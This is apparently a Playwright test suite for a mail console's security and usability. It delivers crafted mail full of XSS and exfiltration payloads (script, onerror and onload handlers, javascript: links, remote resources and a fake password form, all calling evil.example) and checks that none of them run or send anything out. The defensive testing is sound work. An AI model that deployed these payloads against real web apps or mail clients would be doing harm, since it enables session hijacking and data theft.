"""Mail in the console, in a real browser: strangers' mail does nothing there, and a payload becomes mail by a hook."""

import base64
import re
from typing import Any

import httpx
import pytest
from playwright.sync_api import Dialog, Page, Request, Route, expect

from localcloud.administrator import wait_until
from localcloud.chromium import PHONE, Chromium, Visit
from localcloud.console_visit import ConsoleVisit
from localcloud.story import Organisation, Story, letter

pytestmark = pytest.mark.enable_socket

RUN = "top.pwned=1;fetch('https://evil.example/run')"
SUBJECT = f'<img src=x onerror="{RUN}"><script>{RUN}</script>'
NAME = f"<svg onload={RUN}>"
FILE = f"'><img src=x onerror={RUN}>.svg"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")
HTML = f"""<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<link rel="stylesheet" href="https://evil.example/css"><style>@import url(https://evil.example/import);p{{background:url(//evil.example/bg)}}</style>
<script>{RUN}</script></head><body background="https://evil.example/body" onload="{RUN}"><p id="seen">Read me</p>
<img src="x" onerror="{RUN}"><img src="https://evil.example/pixel" srcset="https://evil.example/set 2x">
<img src="cid:svg"><img src="cid:dot">
<svg onload="{RUN}"><image href="https://evil.example/svg"/><a xlink:href="javascript:{RUN}"><text>t</text></a></svg>
<a href="javascript:{RUN}">run</a> <a href="https://evil.example/link" target="_top" ping="https://evil.example/ping">away</a>
<iframe src="https://evil.example/frame" srcdoc="<script>{RUN}</script>"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="{RUN}">
<button>Sign in</button></form>
<video poster="https://evil.example/poster" src="https://evil.example/video"></video><p style="background:url(https://evil.example/style)">styled</p>
<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math></body></html>"""


def encoded(text: str) -> str:
    """Return a header's text as an encoded word."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def part(kind: str, content: bytes, *headers: str) -> bytes:
    """Return one part of a mail."""
    lines = [f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + base64.encodebytes(content)


def mime(header: str = "") -> bytes:
    """Return a mail that tries everything; *header* is a further line of its head."""
    head = [
        f"From: {encoded(NAME)} <mallory@evil.example>",
        f"To: {encoded(NAME)} <box@example.com>",
        f"Subject: {encoded(SUBJECT)}",
        'Message-ID: <"><script>top.pwned=1</script>@evil.example>',
        'Content-Type: multipart/mixed; boundary="b"',
        *([header] if header else []),
    ]
    named = f"Content-Disposition: attachment; filename*=utf-8''{''.join(f'%{byte:02X}' for byte in FILE.encode())}"
    parts = [
        part("text/html; charset=utf-8", HTML.encode()),
        part("image/svg+xml", SVG, "Content-ID: <svg>", named),
        part("image/png", PIXEL, "Content-ID: <dot>", "Content-Disposition: inline"),
    ]
    return "\r\n".join(head).encode() + b"\r\n\r\n--b\r\n" + b"\r\n--b\r\n".join(parts) + b"\r\n--b--\r\n"


def console(story: Story, visit: Visit) -> ConsoleVisit:
    """Return a person at the console, signed in."""
    person = ConsoleVisit(visit, story.stack.host.url)
    person.sign_in(story.stack.host.host_key)
    return person


@pytest.fixture
def strays(visit: Visit, story: Story) -> list[str]:
    """Return what leaves the page and what pops up in it, as it happens."""
    found: list[str] = []
    own = story.stack.host.url

    def look(request: Request) -> None:
        if not request.url.startswith((f"{own}/", "data:image/", "blob:")):
            found.append(request.url)

    visit.context.on("request", look)

    def refuse(dialog: Dialog) -> None:
        found.append(dialog.message)
        dialog.dismiss()

    visit.page.on("dialog", refuse)
    visit.page.on("popup", lambda popup: found.append(popup.url))
    return found


def listed(story: Story, path: str, count: int) -> list[dict[str, Any]]:
    """Wait until a list of the API has *count* items; return them."""

    def found() -> list[dict[str, Any]]:
        items: list[dict[str, Any]] = story.stack.admin.get(path)["data"]
        return items if len(items) >= count else []

    items: list[dict[str, Any]] = wait_until(f"{path} has {count}", found)
    return items


def open_message(page: Page) -> None:
    """Open the mail that is shown, and try what a person might press in it."""
    page.get_by_role("button", name="Open the message").click()
    frame = page.frame_locator("iframe.mail")
    expect(frame.get_by_text("Read me")).to_be_visible()
    for words in ("run", "away"):
        frame.get_by_text(words, exact=True).click()
    expect(
        frame.locator("script, iframe, object, form, input, svg, style ~ style, [href], [onerror], [onload]")
    ).to_have_count(0)
    expect(frame.locator("img[src]")).to_have_attribute("src", re.compile("^data:image/png;base64,"))
    page.get_by_text(re.compile(r"Other fields \(\d+\)")).click()


def test_strangers_mail_does_nothing_in_any_view(
    story: Story, consented: Organisation, visit: Visit, strays: list[str]
) -> None:
    """Script in subject, name, html, file name and SVG, and a header of 1 MB: all is text, nothing runs or leaves."""
    box = consented.address("box")
    story.stack.control.deliver_mime(box, mime())
    story.stack.control.deliver_mime(box, mime(f"X-Long: {'<script>x</script> ' * 55_000}"))
    reader = story.connect_incoming(consented, "box", name=SUBJECT)["id"]
    story.stack.admin.post(f"connections/{reader}/fetch", {})
    received = listed(story, f"connections/{reader}/received", 2)
    sender, token = story.connect_outgoing(consented, "ann", name=SUBJECT)
    answer = story.post_message(token, {"to": [{"address": box, "name": "x"}], "subject": SUBJECT, "html": HTML})
    message = answer.json()["id"]
    own = f"connections/{sender['id']}"
    parts = {"to": box, "subject": SUBJECT, "text": HTML, "html": HTML}
    story.stack.admin.put(f"{own}/templates/order", parts)
    story.stack.admin.post(f"{own}/hooks", {"template": "order", "dedupe_key": SUBJECT})
    person, page = console(story, visit), visit.page

    readers = [f"connections/{reader}{end}" for end in ("", "/received", "/activity", "/log", "/tokens")]
    senders = [
        f"{own}{end}" for end in ("", "/outbox", "/templates", "/templates/order", "/hooks", "/activity", "/tokens")
    ]
    for path in ("", "connections", "activity", "audit", *readers, *senders, f"outbox/{message}"):
        person.go(path)
        assert [] == visit.faults(), path
    person.go(f"connections/{reader}/received")
    page.get_by_label("The subject begins with").fill("<img src=x")
    page.get_by_role("button", name="Search").click()
    expect(page.get_by_role("link", name=SUBJECT)).to_have_count(2)
    for mail in received:
        person.go(f"received/{mail['id']}")
        expect(page.get_by_role("heading", level=1)).to_have_text(SUBJECT)
        expect(page.get_by_role("cell", name=FILE).or_(page.get_by_role("rowheader", name=FILE))).to_be_visible()
        open_message(page)
        assert [] == visit.faults()
    for path in (f"connections/{sender['id']}/outbox", f"outbox/{message}"):
        person.go(path)
        expect(page.get_by_text(SUBJECT).first).to_be_visible()
    person.go("audit")
    expect(page.get_by_text("received.open").first).to_be_visible()

    assert ([], []) == (strays, visit.complaints)
    assert not page.evaluate("'pwned' in window")


def test_from_a_template_to_a_mail_that_is_sent_again(
    story: Story, consented: Organisation, visit: Visit, strays: list[str]
) -> None:
    """Written with a preview that follows, given a hook, called, found in the outbox, and sent once more."""
    connection, _ = story.connect_outgoing(consented, "ann", recipient_allow_list=[f"@{consented.domain}"])
    place = f"connections/{connection['id']}"
    person, page = console(story, visit), visit.page
    person.go(f"{place}/templates")
    page.get_by_label("Name").fill("order")
    page.get_by_role("button", name="Write it").click()
    person.arrived("order")
    form = page.get_by_role("form", name="Template")
    form.get_by_label("To", exact=True).fill(consented.address("bob"))
    form.get_by_label("Subject").fill("Order {{ payload.id }}")
    form.get_by_label("Html").fill("<p>{{ payload.name }}</p>")
    form.get_by_label("A payload to try").fill('{"id": 7, "name": "<script>alert(1)</script>"}')
    preview = page.locator("section", has=page.get_by_role("heading", name="Preview"))
    expect(preview).to_contain_text("Order 7")
    expect(preview).to_contain_text("<p>&lt;script&gt;")
    form.get_by_label("Subject").fill("Order {{ payload.nothing }}")
    expect(preview.get_by_role("alert")).to_contain_text("nothing")
    form.get_by_label("Subject").fill("Order {{ payload.id }}")
    form.get_by_role("button", name="Create").click()
    expect(page.get_by_role("button", name="Delete")).to_be_visible()

    person.go(f"{place}/hooks")
    page.get_by_role("button", name="Make a hook").click()
    address = page.get_by_role("dialog").get_by_text(re.compile("/api/hooks/")).inner_text()
    page.get_by_role("button", name="I have kept it").click()
    expect(page.get_by_role("table", name="Hooks")).to_contain_text("order")
    answer = httpx.post(address, json={"id": 8, "name": "Bob"}, trust_env=False, timeout=30)
    wait_until("it is accepted", lambda: _status(story, answer.json()["id"]) in ("accepted", "sent"))

    person.go(f"{place}/outbox")
    page.get_by_label("Recipient, subject or id has").fill("order 8")
    page.get_by_role("button", name="Search").click()
    page.get_by_role("link", name="Order 8").click()
    person.arrived("Order 8")
    page.get_by_role("button", name="Send it again").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name="Send", exact=True).click()
    expect(dialog.get_by_role("alert")).to_contain_text("may have it already")
    dialog.get_by_label("They may get it twice").check()
    dialog.get_by_role("button", name="Send", exact=True).click()
    expect(page.get_by_role("link", name="this one")).to_be_visible()
    copy = f"Order 8 → {consented.address('bob')}"
    wait_until("both copies arrive", lambda: story.copies("Order 8")[copy] == 2)

    assert ([], []) == (strays, [text for text in visit.complaints if "status of 4" not in text])


def _status(story: Story, message: str) -> str:
    return str(story.stack.admin.get(f"outbox/{message}")["status"])


def test_the_views_of_mail_fit_a_phone(story: Story, consented: Organisation, windows: Chromium) -> None:
    """In the dark and at 360 pixels, with a token made, used by nobody, and revoked."""
    connection, _ = story.connect_outgoing(consented, "ann", recipient_allow_list=[f"@{consented.domain}"])
    place = f"connections/{connection['id']}"
    with windows.visit(PHONE, color_scheme="dark") as visit:
        person, page = console(story, visit), visit.page
        found = {}
        for path in ("outbox", "templates", "templates/order", "hooks", "activity", "log", "tokens"):
            person.go(f"{place}/{path}")
            found[path] = (visit.faults(), visit.too_wide())
        page.get_by_role("button", name="Make a token").click()
        expect(page.get_by_role("dialog").get_by_text(re.compile("^mg_send_"))).to_be_visible()
        page.get_by_role("button", name="I have kept it").click()
        page.get_by_role("button", name="Revoke").first.click()
        page.get_by_role("dialog").get_by_role("button", name="Revoke").click()
        expect(page.get_by_role("button", name="Revoke")).to_have_count(1)

        assert {path: ([], 0) for path in found} == found


def test_a_viewer_is_offered_nothing_that_would_be_refused(story: Story, consented: Organisation, visit: Visit) -> None:
    """Who may only read meets no button that changes anything; templates stand there to be read, mail does not."""
    connection, token = story.connect_outgoing(consented, "ann")
    place = f"connections/{connection['id']}"
    story.stack.admin.put(f"{place}/templates/order", {"to": consented.address("bob"), "subject": "x", "text": "Hello"})
    message = story.post_message(token, letter(1, consented.address("bob"))).json()["id"]
    person, page = console(story, visit), visit.page
    page.route("**/api/console", _as_if_signed_in)
    page.route("**/api/system", _as_a_viewer)
    page.reload()
    person.arrived("Overview")
    allowed = {"Menu", "Sign out", "Copy", "Copy redirect URI", "Search", "Show", "Show more", "Authorize"}
    credential, grant = consented.credential["id"], consented.grant["id"]
    lists = ("connections", "credentials", "guide", "audit", f"credentials/{credential}", f"grants/{grant}")
    own = [f"{place}{end}" for end in ("", "/outbox", "/templates", "/templates/order", "/hooks", "/tokens")]
    for path in (*lists, *own, "connections/new", "credentials/new", f"outbox/{message}"):
        person.go(path)
        shown = page.locator("button:visible, a.button:visible").all_inner_texts()
        assert set() == {text.strip() for text in shown} - allowed, path

    person.go(f"{place}/templates/order")
    expect(page.get_by_label("Text")).to_have_value("Hello")
    expect(page.get_by_label("Text")).not_to_be_editable()


def _as_if_signed_in(route: Route) -> None:
    """Answer with the shell as it is where people sign in with accounts."""
    answer = route.fetch()
    route.fulfill(response=answer, body=answer.text().replace('data-auth="key"', 'data-auth="easyauth"'))


def _as_a_viewer(route: Route) -> None:
    answer = route.fetch()
    route.fulfill(response=answer, json={**answer.json(), "role": "viewer"})
